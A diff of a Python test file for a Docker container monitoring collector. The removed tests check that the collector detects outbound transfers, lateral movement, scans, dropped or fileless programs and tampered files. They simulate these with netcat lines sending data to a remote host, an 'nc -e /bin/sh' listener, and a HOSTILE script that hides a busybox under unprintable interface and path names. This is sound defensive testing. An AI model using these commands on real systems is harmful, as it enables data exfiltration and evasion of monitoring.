@@ -4,410 +4,29 @@ from __future__ import annotations
 
 import contextlib
 import math
-import socket
 import threading
 import time
-import uuid
-from collections.abc import Iterator
-from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
-from docker.models.containers import Container
-from pyroute2 import netns
 
-from infra.demo.remote import RemoteHosts
 from models.records.facts import (
     BootIdentity,
-    Change,
-    Connection,
     Coverage,
-    Direction,
     Exec,
     FileChange,
-    Interface,
     Lifecycle,
     Listen,
     Program,
 )
 from models.records.inventory import State
 from producers.settings import load
-from producers.sources.docker import watch
-from producers.sources.docker.identity import Known, known_of
-from producers.sources.docker.layers import layers_of
-from producers.sources.docker.programs import STRANGER_NS, Programs
 from producers.sources.docker.source import DockerSource
 from producers.sources.docker.stats import reading_of
-from producers.sources.docker.watch import running
-from tests.docker.collecting import Collecting
+from tests.docker.collecting import Collecting, seen, sh
 from tests.docker.passage import Passage
 from tests.fixtures_docker import TestEngine
-
-
-@pytest.fixture(scope="module")
-def image(docker_engine: TestEngine) -> str:
-    return docker_engine.image("collect", files={"/bin/tool": b"#!/bin/sh\nexec sleep 1000\n"})
-
-
-@pytest.fixture(scope="module")
-def remote() -> Iterator[RemoteHosts]:
-    with RemoteHosts(uuid.uuid4().hex[:8], hosts=(9,), ports=(443, 444)) as hosts:
-        yield hosts
-
-
-@pytest.fixture
-def collecting(tmp_path: Path) -> Iterator[Collecting]:
-    made = Collecting(tmp_path)
-    made.poll()
-    yield made
-    made.source.close()
-
-
-def sh(container: Container, script: str) -> str:
-    """Run a script in a container, to its end."""
-    code, said = container.exec_run(["/bin/sh", "-c", script])
-    assert code == 0, said
-    assert isinstance(said, bytes)
-    return said.decode()
-
-
-def test_bytes_to_a_remote_host_are_told_with_its_address_and_port(
-    docker_engine: TestEngine, image: str, remote: RemoteHosts, collecting: Collecting
-) -> None:
-    """Exfiltration is known by how much went to whom, seen behind the host's translation."""
-    container = docker_engine.run(image)
-    far = remote.address(9)
-    collecting.until(lambda: container.id in collecting.rows, "a first sample")
-    before = remote.received_bytes(9)
-
-    sh(container, f"head -c 3000000 /dev/zero | nc {far} 443 >/dev/null")
-
-    def sent() -> int:
-        found = collecting.of(container.id, Connection)
-        return sum(one.sent_bytes for one in found if (one.peer, one.port) == (far, 443))
-
-    collecting.until(lambda: sent() >= 3_000_000, f"3 MB to {far}:443")
-    assert remote.received_bytes(9) - before == 3_000_000
-    assert sent() < 3_300_000  # headers and acknowledgements, no more
-    one = collecting.of(container.id, Connection)[0]
-    assert (one.direction, one.protocol, one.answered) == (Direction.EGRESS, "tcp", True)
-    assert sum(one.opened for one in collecting.of(container.id, Connection)) == 1
-    assert max(row["network_transmit_bytes_per_s"] for row in seen(collecting, container)) > 1e5
-
-
-def serving(port: int) -> list[str]:
-    """A command that takes what anybody sends to a port."""
-    return ["/bin/nc", "-ll", "-p", str(port), "-e", "/bin/sh", "-c", "cat >/dev/null"]
-
-
-def call_from(remote: RemoteHosts, address: str, port: int, body: bytes) -> None:
-    """Send something from the remote host; its socket stays in its namespace."""
-    netns.pushns(remote.namespace)
-    try:
-        connection = socket.create_connection((address, port), timeout=10)
-    finally:
-        netns.popns()
-    with connection:
-        connection.sendall(body)
-
-
-def seen(collecting: Collecting, container: Container) -> list[dict[str, float]]:
-    """Rows with rates: the first one of a container has none."""
-    rows = collecting.rows.get(container.id or "", [])
-    return [row for row in rows if not math.isnan(row["network_transmit_bytes_per_s"])]
-
-
-def test_a_flow_between_two_containers_is_egress_of_one_and_ingress_of_the_other(
-    docker_engine: TestEngine, image: str, collecting: Collecting
-) -> None:
-    """Lateral movement has two ends, and both are judged. Two networks: two addresses."""
-    first, second = docker_engine.network("east"), docker_engine.network("west")
-    server = docker_engine.run(
-        image, serving(8080),
-        network=first.name,
-    )  # fmt: skip  # the options in a line
-    second.connect(server)
-    client = docker_engine.run(image, network=second.name)
-    collecting.until(
-        lambda: len(getattr(collecting.entries.get(server.id or ""), "addresses", ())) == 2,
-        "both addresses in the inventory",
-    )
-    server.reload()
-    address = server.attrs["NetworkSettings"]["Networks"][second.name]["IPAddress"]
-    collecting.until(lambda: collecting.of(server.id, Listen), "the open port")
-
-    sh(client, f"head -c 500000 /dev/zero | nc {address} 8080")
-
-    def ends() -> list[Connection]:
-        out = collecting.of(client.id, Connection)
-        back = collecting.of(server.id, Connection)
-        enough = sum(one.sent_bytes for one in out) >= 500_000
-        return [out[0], back[0]] if enough and back else []
-
-    out, back = collecting.until(ends, "the flow from both ends")
-    assert (out.direction, out.peer, out.port) == (Direction.EGRESS, address, 8080)
-    assert (back.direction, back.port) == (Direction.INGRESS, 8080)
-    received = sum(one.received_bytes for one in collecting.of(server.id, Connection))
-    assert received == sum(one.sent_bytes for one in collecting.of(client.id, Connection))
-    assert [one.port for one in collecting.of(server.id, Listen)] == [8080]
-
-
-def test_each_of_several_interfaces_is_told_apart(
-    docker_engine: TestEngine, image: str, collecting: Collecting
-) -> None:
-    """What leaves through the network of the backup is not what leaves through the shop's."""
-    shop, backup = docker_engine.network("shop"), docker_engine.network("backup")
-    alone = docker_engine.run(image, serving(8080), network=backup.name)
-    container = docker_engine.run(image, network=shop.name)
-    collecting.until(lambda: seen(collecting, container), "samples")
-    backup.connect(container)
-    alone.reload()
-    address = alone.attrs["NetworkSettings"]["Networks"][backup.name]["IPAddress"]
-    collecting.until(lambda: collecting.of(alone.id, Listen), "the open port")
-
-    def sent() -> dict[str, int]:
-        found: dict[str, int] = {}
-        for one in collecting.of(container.id, Interface):
-            found[one.interface] = found.get(one.interface, 0) + one.sent_bytes
-        return found
-
-    def send() -> int:
-        sh(container, f"head -c 300000 /dev/zero | nc {address} 8080")
-        return sent().get("eth1", 0)
-
-    collecting.until(lambda: send() >= 300_000, "what went through the second one")
-    assert sent().get("eth0", 0) < 50_000
-    assert collecting.of(alone.id, Interface) == []  # of one, samples tell all
-
-
-def test_a_published_port_is_ingress_at_the_containers_own(
-    docker_engine: TestEngine, image: str, remote: RemoteHosts, collecting: Collecting
-) -> None:
-    """The host's port differs with each deployment; the service behind it does not."""
-    server = docker_engine.run(
-        image, serving(80),
-        ports={"80/tcp": None},
-    )  # fmt: skip  # the options in a line
-    port = int(server.attrs["NetworkSettings"]["Ports"]["80/tcp"][0]["HostPort"])
-    collecting.until(lambda: collecting.of(server.id, Listen), "the open port")
-
-    call_from(remote, remote.address(1), port, b"x" * 100_000)
-
-    def arrived() -> list[Connection]:
-        return [
-            one for one in collecting.of(server.id, Connection)
-            if one.peer == remote.address(9) and one.received_bytes > 0
-        ]  # fmt: skip  # a filter
-
-    collecting.until(lambda: sum(o.received_bytes for o in arrived()) >= 100_000, "the visit")
-    assert {(one.direction, one.port) for one in arrived()} == {(Direction.INGRESS, 80)}
-
-
-def test_a_connection_that_nobody_answers_says_so(
-    docker_engine: TestEngine, image: str, remote: RemoteHosts, collecting: Collecting
-) -> None:
-    """A scan of addresses is mostly silence."""
-    container = docker_engine.run(image)
-    nobody = remote.address(57)
-    collecting.until(lambda: container.id in collecting.rows, "a first sample")
-
-    container.exec_run(["/bin/sh", "-c", f"nc -w 2 {nobody} 22 </dev/null"], detach=True)
-
-    told = collecting.until(
-        lambda: [one for one in collecting.of(container.id, Connection) if one.peer == nobody],
-        "the unanswered connection",
-    )
-    assert not told[0].answered
-
-
-def test_a_dropped_program_that_runs_is_no_part_of_the_image(
-    docker_engine: TestEngine, image: str, collecting: Collecting
-) -> None:
-    """The one proof of a compromise that nobody argues with; the image's own are none."""
-    container = docker_engine.run(image)
-    sh(container, "mkdir /tmp/x; cp /bin/busybox /tmp/x/busybox")
-    container.exec_run(["/tmp/x/busybox", "sleep", "1000"], detach=True)
-
-    def dropped() -> Program | None:
-        found = collecting.of(container.id, Program)
-        return next((one for one in found if one.executable == "/tmp/x/busybox"), None)
-
-    told = collecting.until(dropped, "the dropped program")
-    assert told.in_image is False
-    assert (told.user, told.parent) == ("root", "(outside)")
-    assert len(told.sha256) == 64
-    own = [one for one in collecting.of(container.id, Program) if one.executable == "/bin/busybox"]
-    assert own
-    assert all(one.in_image for one in own)
-    added = collecting.until(
-        lambda: [o for o in collecting.of(container.id, FileChange) if o.path == told.executable],
-        "the file that was added",
-    )
-    assert (added[0].change, added[0].executable) == (Change.ADDED, True)
-    assert added[0].sha256 == told.sha256
-
-
-@pytest.mark.parametrize("how", ["deleted", "in memory", "beside a blank"])
-def test_a_program_without_a_file_is_no_part_of_the_image(
-    docker_engine: TestEngine, image: str, collecting: Collecting, how: str
-) -> None:
-    """Whoever hides leaves no file behind: removed once it runs, or on a tmpfs."""
-    place = {"deleted": "/tmp", "in memory": "/memory", "beside a blank": "/a memory"}[how]
-    container = docker_engine.run(image, tmpfs={"/memory": "exec", "/a memory": "exec"})
-    sh(container, f"cp /bin/busybox '{place}/busybox'")
-    container.exec_run([f"{place}/busybox", "sleep", "1000"], detach=True)
-    if how == "deleted":
-        sh(container, f"rm {place}/busybox")
-
-    def hidden() -> Program | None:
-        found = collecting.of(container.id, Program)
-        return next((one for one in found if one.executable.startswith(place)), None)
-
-    assert collecting.until(hidden, "the hidden program").in_image is False
-
-
-def test_a_dropped_program_in_a_root_of_its_own_is_no_part_of_the_image(
-    docker_engine: TestEngine, image: str, collecting: Collecting
-) -> None:
-    """Behind a changed root no mount tells where a program lies; the writable layer does."""
-    container = docker_engine.run(image)
-    sh(container, "mkdir -p /jail/bin; cp /bin/busybox /jail/bin/busybox")
-    container.exec_run(
-        ["/bin/busybox", "chroot", "/jail", "/bin/busybox", "sleep", "1000"], detach=True
-    )
-
-    told = collecting.until(
-        lambda: [o for o in collecting.of(container.id, Program) if "/jail" in o.executable],
-        "the program behind it",
-    )
-    assert told[0].in_image is False
-
-
-def test_a_program_that_is_there_before_its_container_is_known_is_not_the_hosts(
-    docker_engine: TestEngine, image: str, collecting: Collecting
-) -> None:
-    """A busy engine tells of a container when its programs run already: told as the host's,
-    each would look like somebody who got out.
-    """
-    programs = Programs(Path("/"), "host/here", 0)
-    container = docker_engine.run(image, ["/bin/sleep", "1234"])
-    assert container.id is not None
-    subject = container.id
-    watch = collecting.source._watch
-    known = collecting.until(lambda: running(watch.containers()).get(subject), "that it runs")
-    now_ns = time.time_ns()
-
-    early = [told.pid for _, told in programs.look(now_ns, {})]
-    late = [(whose, told.pid) for whose, told in programs.look(now_ns + 1, {container.id: known})]
-
-    assert known.pid not in early
-    assert (container.id, known.pid) in late
-
-
-def test_the_programs_of_another_engine_are_the_hosts(
-    docker_engine: TestEngine, image: str
-) -> None:
-    """Nobody else would tell of them."""
-    container = docker_engine.run(image, ["/bin/sleep", "1234"])
-    pid = container.attrs["State"]["Pid"]
-    programs, now_ns = Programs(Path("/"), "host/here", 0), time.time_ns()
-
-    assert pid not in {told.pid for _, told in programs.look(now_ns, {})}
-    list(programs.look(now_ns + STRANGER_NS, {}))
-
-    assert programs._processes[pid].subject == "host/here"
-
-
-def test_a_program_that_replaces_itself_is_told_under_its_new_name(
-    docker_engine: TestEngine, image: str, collecting: Collecting
-) -> None:
-    """``exec`` makes no new process: looking at new ones alone would miss it."""
-    container = docker_engine.run(
-        image, ["/bin/sh", "-c", ("cp /bin/busybox /tmp/busybox; while [ ! -e /tmp/go ]; do "
-                "usleep 50000; done; exec /tmp/busybox sleep 1000")],
-    )  # fmt: skip  # one command
-    collecting.until(lambda: collecting.of(container.id, Program), "the shell")
-
-    sh(container, "touch /tmp/go")
-
-    collecting.until(
-        lambda: [o for o in collecting.of(container.id, Program) if o.executable == "/tmp/busybox"],
-        "what it became",
-    )
-
-
-def test_a_binary_replaced_with_its_size_and_time_kept_is_seen(
-    docker_engine: TestEngine, image: str, collecting: Collecting
-) -> None:
-    """``docker diff`` shows nothing then."""
-    container = docker_engine.run(image)
-    sh(
-        container,
-        "cp /bin/tool /tmp/kept; chmod +x /tmp/kept; touch -d '2020-01-01 00:00' /tmp/kept",
-    )
-
-    def told() -> list[FileChange]:
-        return [one for one in collecting.of(container.id, FileChange) if one.path == "/tmp/kept"]
-
-    collecting.until(told, "the file")
-    sh(container, "printf '#!/bin/sh\\nexec sleep 9999\\n' >/tmp/kept; "
-                  "touch -d '2020-01-01 00:00' /tmp/kept")  # fmt: skip  # two lines
-
-    collecting.until(lambda: len({one.sha256 for one in told()}) == 2, "the other content")
-    first, last = told()[0], told()[-1]
-    assert (first.size_bytes, last.change) == (last.size_bytes, Change.CHANGED)
-    assert last.changed_ns > first.changed_ns
-
-
-def test_image_files_that_change_or_vanish_are_told_and_the_engines_own_are_not(
-    docker_engine: TestEngine, image: str, collecting: Collecting
-) -> None:
-    """Whiteouts are how an overlay says "deleted"; hosts and resolv.conf are nobody's act."""
-    container = docker_engine.run(image, init=True)
-    sh(container, "echo x >>/bin/tool; rm /etc/passwd; mkdir /var/new; echo y >/var/new/data")
-
-    def told() -> dict[str, Change]:
-        return {one.path: one.change for one in collecting.of(container.id, FileChange)}
-
-    collecting.until(lambda: len(told()) >= 3, "three changes")
-    assert told() == {
-        "/bin/tool": Change.CHANGED, "/etc/passwd": Change.DELETED, "/var/new/data": Change.ADDED,
-    }  # fmt: skip  # a table
-    sh(container, "rm /var/new/data")
-    collecting.until(lambda: told()["/var/new/data"] is Change.DELETED, "it was removed again")
-
-
-def test_layers_that_the_engine_does_not_tell_are_found_by_the_mounts(
-    docker_engine: TestEngine, image: str, collecting: Collecting, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """Docker with containerd's image store names none: without them no file and no dropped
-    program would be told from the image's own.
-    """
-    told = docker_engine.run(image)
-    layers = told.attrs["GraphDriver"]["Data"]
-    upper, lowers = layers_of(Path("/"), told.attrs["State"]["Pid"])
-    assert upper == Path(layers["UpperDir"])
-    assert [one.resolve() for one in lowers] == list(map(Path, layers["LowerDir"].split(":")))
-
-    def without(*given: Any) -> Known:
-        return replace(known_of(*given), upper=None, lowers=())
-
-    monkeypatch.setattr(watch, "known_of", without)
-    container = docker_engine.run(image)
-    sh(container, "mkdir /tmp/x; cp /bin/busybox /tmp/x/busybox; rm /bin/tool")
-    container.exec_run(["/tmp/x/busybox", "sleep", "1000"], detach=True)
-
-    def found() -> dict[str, Change]:
-        return {one.path: one.change for one in collecting.of(container.id, FileChange)}
-
-    def programs() -> dict[str, bool | None]:
-        return {one.executable: one.in_image for one in collecting.of(container.id, Program)}
-
-    collecting.until(lambda: len(found()) == 2, "two changes")
-    assert found() == {"/tmp/x/busybox": Change.ADDED, "/bin/tool": Change.DELETED}
-    collecting.until(lambda: len(programs()) == 2, "two programs")
-    assert programs() == {"/bin/busybox": True, "/tmp/x/busybox": False}
 
 
 def test_samples_may_be_taken_more_often_than_frames_are_sent(
@@ -661,41 +280,6 @@ def test_nothing_ends_when_containers_come_and_go(
     assert collecting.sequences == list(range(len(collecting.sequences)))
 
 
-HOSTILE = r"""
-name=$(printf '\377\376'); ip link set eth0 down; ip link set eth0 name "$name"
-mkdir "/tmp/$name"; mount -t tmpfs none "/tmp/$name"; cp /bin/busybox "/tmp/$name/busybox"
-printf '#!/bin/sh\nexec "/tmp/%s/busybox" sh -c "while true; do sleep 1; done"\n' "$name" \
-    >"/tmp/$name/$name"
-chmod +x "/tmp/$name/$name"
-"""
-
-
-def test_no_name_that_a_container_gives_itself_ends_the_collector(
-    docker_engine: TestEngine, image: str, collecting: Collecting
-) -> None:
-    """Processes, interfaces and mounts are called what their owner likes, in any bytes."""
-    container = docker_engine.run(
-        image, cap_add=["NET_ADMIN", "SYS_ADMIN"], security_opt=["apparmor=unconfined"]
-    )
-    collecting.until(lambda: len(seen(collecting, container)) > 1, "samples")
-
-    sh(container, HOSTILE)
-    container.exec_run(
-        ["/bin/sh", "-c", "name=$(printf '\\377\\376'); exec \"/tmp/$name/$name\""], detach=True
-    )
-
-    told = collecting.until(
-        lambda: [
-            one for one in collecting.of(container.id, Program) if one.executable.startswith("/tmp")
-        ],
-        "the program of that name",
-    )
-    assert told[0].executable == r"/tmp/\udcff\udcfe/busybox"
-    assert told[0].in_image is False
-    have = len(seen(collecting, container))
-    collecting.until(lambda: len(seen(collecting, container)) > have + 1, "more samples")
-
-
 def test_a_clock_that_is_set_back_blinds_nobody(
     docker_engine: TestEngine, image: str, collecting: Collecting
 ) -> None:
@@ -762,9 +346,12 @@ def test_without_an_engine_the_first_line_says_so(tmp_path: Path) -> None:
 def test_no_file_stays_open_for_what_is_gone(
     docker_engine: TestEngine, image: str, collecting: Collecting
 ) -> None:
-    """A collector runs for months; one handle a container would end it."""
-    sockets = []
-    for _ in range(3):
+    """A collector runs for months; one handle a container would end it. The engine's client
+    keeps a connection for each of the last 25 addresses: their number settles.
+    """
+    sockets: list[int] = []
+    while len(sockets) < 2 or sockets[-1] > sockets[-2]:
+        assert len(sockets) < 12, f"connections come and none goes: {sockets}"
         containers = [docker_engine.run(image) for _ in range(3)]
         for one in containers:
             collecting.until(lambda one=one: seen(collecting, one), "samples")  # type: ignore[misc]  # bound now
@@ -780,7 +367,6 @@ def test_no_file_stays_open_for_what_is_gone(
         collecting.poll()
         assert not [name for name in opened() if any(part in name for part in theirs)]
         sockets.append(sum(name.startswith("socket:") for name in opened()))
-    assert sockets[-1] <= sockets[0] + 3, "connections to the engine come and go"
 
 
 def opened() -> list[str]:
